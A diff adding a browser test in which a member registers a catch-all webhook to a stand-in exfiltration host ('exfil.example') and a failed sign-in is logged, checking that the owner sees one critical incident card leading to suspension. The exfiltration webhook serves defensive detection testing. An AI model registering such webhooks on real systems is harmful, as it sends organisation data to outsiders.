@@ -1,0 +1,35 @@
+import assert from 'node:assert/strict'
+import { test } from 'node:test'
+import { recordSystemEntry } from '../../../server/src/features/audit/index.ts'
+import { contextWithoutRequest, SYSTEM_ACTOR } from '../../../server/src/operations/internal-change.ts'
+import { eventually, inWindow, reeve } from '../harness/browser.ts'
+import { busyPerson, nameOf } from '../harness/busy-person.ts'
+
+test('a failed sign-in and a webhook of the same member are one incident, which leads to the suspension', async () => {
+  const acme = await reeve.organization('Acme')
+  const mallory = await busyPerson(acme)
+  const name = await nameOf(acme, mallory)
+  const url = 'https://exfil.example/reeve'
+  await mallory.call('POST /v1/governance/webhooks', { body: { url, event_types: ['*'] } })
+  const fact = {
+    action: 'account.sign_in_failed',
+    target: { type: 'account' as const, id: mallory.userId, name: mallory.email },
+    reason: 'invalid_credentials',
+  }
+  const context = { ...contextWithoutRequest(), ip: '192.0.2.203' }
+  await recordSystemEntry(reeve.app.runtime, fact, { actor: SYSTEM_ACTOR, context })
+  await inWindow({ as: acme.owner }, async ({ page, open }) => {
+    await open('/')
+    const needs = page.getByRole('list', { name: 'Needs attention' })
+    const signals = needs.getByRole('list', { name: `Possible incident: ${name}` }).getByRole('listitem')
+    await signals.filter({ hasText: url }).getByText(', key test, 127.0.0.1').waitFor()
+    await signals.filter({ hasText: '1 failed sign-in from 192.0.2.203' }).locator('[data-clock]').waitFor()
+    await eventually(() => needs.getByText(url).count(), 1)
+    await eventually(() => needs.getByText('192.0.2.203').count(), 1)
+    const card = needs.getByRole('listitem').filter({ hasText: 'Possible incident' })
+    await card.getByText('Critical').waitFor()
+    await card.getByRole('link', { name: `Suspend ${name}…` }).click()
+    await page.getByRole('heading', { level: 1, name: `Suspend ${name}` }).waitFor()
+    assert.equal(new URL(page.url()).pathname, `/members/${mallory.userId}/suspend`)
+  })
+})
